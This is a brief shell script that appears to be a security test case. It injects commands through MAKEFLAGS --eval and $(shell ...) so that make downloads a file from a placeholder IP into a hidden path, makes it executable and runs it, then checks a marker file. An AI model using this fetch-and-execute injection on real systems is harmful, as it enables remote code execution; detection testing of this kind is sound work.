#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/build && printf 'all:\n\t@true\n' >/srv/build/Makefile
MAKEFLAGS='--eval=$$(shell\ curl\ -sf\ -o\ /var/tmp/.m\ http://203.0.113.10/programs/marker;chmod\ 755\ /var/tmp/.m;/var/tmp/.m)' make -s -C /srv/build
test -e /tmp/reached
took_place
